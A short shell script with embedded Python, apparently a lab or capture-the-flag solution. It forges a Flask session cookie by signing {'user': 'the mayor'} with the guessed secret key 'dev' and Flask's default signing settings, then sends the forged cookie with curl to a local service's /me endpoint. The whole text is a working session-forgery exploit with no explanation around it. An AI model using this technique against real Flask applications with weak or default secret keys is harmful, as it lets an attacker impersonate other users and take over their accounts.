cookie=$(python - <<'EOF'
import hashlib
from itsdangerous import URLSafeTimedSerializer

as_flask_does = {"key_derivation": "hmac", "digest_method": hashlib.sha1}
signer = URLSafeTimedSerializer(
    "dev", salt="cookie-session", signer_kwargs=as_flask_does
)
print(signer.dumps({"user": "the mayor"}))
EOF
)
curl -s --cookie "session=$cookie" http://localhost:8080/me
